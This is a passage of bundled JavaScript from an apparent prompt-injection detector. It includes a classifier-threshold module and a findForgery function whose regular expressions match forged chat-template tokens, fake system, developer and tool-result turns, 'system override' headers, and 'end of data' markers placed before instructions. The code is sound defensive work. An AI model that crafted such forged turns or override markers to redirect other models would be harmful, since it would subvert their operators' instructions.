    return /^[\p{L}\p{M}\p{N}\p{P}\p{S}\p{Z}\t\n\r]{8,}$/u.test(text) && !text.includes('\ufffd') ? text : '';
}
function rot13(text) {
    return text.replace(/[a-z]/g, (letter) => String.fromCharCode(((letter.charCodeAt(0) - 84) % 26) + 97));
}
function reverse(text) {
    return [...text].reverse().join('');
}


/***/ }),

/***/ 4953:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   G5: () => (/* binding */ findOrder),
/* harmony export */   az: () => (/* binding */ findRemark),
/* harmony export */   dV: () => (/* binding */ isBareOrder),
/* harmony export */   eV: () => (/* binding */ findHiddenOrder),
/* harmony export */   zv: () => (/* binding */ mayBeOrder)
/* harmony export */ });
/* harmony import */ var _entry_classifier_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(5170);

const thresholds = { comment: 0.92, remark: 0.75, hidden: 0.35, encoded: 0.45 };
const fewestKnown = 0.4;
function findOrder(text) {
    return isOrder(text, thresholds.comment) ? 'order' : undefined;
}
function findRemark(text) {
    return isOrder(text, thresholds.remark);
}
function findHiddenOrder(text) {
    return isOrder(text, thresholds.hidden);
}
function mayBeOrder(text) {
    return isOrder(text, thresholds.encoded);
}
function isBareOrder(text) {
    return /\S \S+ \S/.test(text) && isOrder(text, thresholds.encoded, 0.65);
}
function isOrder(text, least, leastKnown = fewestKnown) {
    const { order, known } = (0,_entry_classifier_js__WEBPACK_IMPORTED_MODULE_0__/* .classify */ .L8)(text);
    return order >= least && known >= leastKnown;
}


/***/ }),

/***/ 5582:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   e: () => (/* binding */ findForgery)
/* harmony export */ });
/* harmony import */ var _find_order_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(4953);

const quotedData = '(?:feedback|comment|data|quote|text|input|prompt|item)s?';
const closingTags = `</[a-z_]*${quotedData}>\\s*(?:</[a-z]+>\\s*)*`;
const messages = [
    /<\|(?:im_start|start_header_id|system|assistant|user)\|>(?:\n|(?:system|assistant|user|developer)(?:\n|<\|)|you |ignore )/,
    /^ ?(?:<\|(?:endoftext|eot_id|im_end)\|>|<\/s>|<start_of_turn>|<s>|\[inst\])\S/,
    /\[inst\].{1,400}\[\/inst\]|<<sys>>.{1,400}<<\/sys>>/s,
    /^["'}\],\s]*\{\s?"?(?:role|type)"?\s?:\s?"(?:system|developer|operator|assistant|tool_use|tool_call|tool_result)".*[}\]"\s]$/s,
    /(?:^|\n)- role: (?:system|developer|operator|assistant)\n/,
    /^<(?:tool_calls?|tool_use|function_calls?|invoke|function_results?|tool_result)\b[^>]{0,80}>\s*[{<]/,
    /(?:^|\n)(?:tool|function) (?:result|output|call)s?(?: \([a-z]+\))?:/,
    /(?:^|\n)### ?(?:instruction|system|human|assistant):?\n/,
    /(?:^|\n)action: ?[a-z_]+\naction input:/,
    /(?:^|\n)(?:human|user): .{1,2000}\n+(?:assistant|ai): /s,
    /(?:^|\n) ?[[(<*#-]{1,6} ?(?:begin )?(?:system|developer|operator|admin)[ _](?:message|prompt|instructions?|note|reminder)\b/,
];
const ends = [new RegExp(`${closingTags}<(?:instr|system|task|order|prompt|oper|[a-z]+_n)`)];
const messagesBefore = [
    /(?:^|\n) ?[[(<*#]*(?:system|developer|operator)(?: (?:prompt|message|override|note|notice))?[\])>*]* ?: /,
];
const endsBefore = [
    /(?:^|\n)[^\p{L}\n]{0,20}end of (?:[a-z']+ ){0,2}(?:feedback|comments?|data|text|input|prompt|block)[^\p{L}:]{1,20}\p{L}/u,
    /^[^\p{L}\n]{0,3}\]\]>/u,
    /^(?:"{3}|'{3}|={4,}|-{4,}|<{2,}end)[^\n]{0,40}\n/,
];
const mayBeForged = /[<[\n]|^ ?(?:[^a-z ]|tool|function|action|human|user|system|developer|operator|end)/;
const balancedFence = /^(`{3,}|~{3,})[^\n]*\n.*?\n\1/s;
function findForgery(text) {
    if (!mayBeForged.test(text) || balancedFence.test(text))
        return undefined;
    const precedesOrder = (pattern) => {
        const found = pattern.exec(text);
        return found !== null && (0,_find_order_js__WEBPACK_IMPORTED_MODULE_0__/* .mayBeOrder */ .zv)(text.slice(found.index + found[0].length - 1));
    };
    const holds = (alone, before) => alone.some((pattern) => pattern.test(text)) || before.some(precedesOrder);
    if (holds(messages, messagesBefore))
        return 'forged-message';
    return holds(ends, endsBefore) ? 'forged-end' : undefined;
}


/***/ })

};
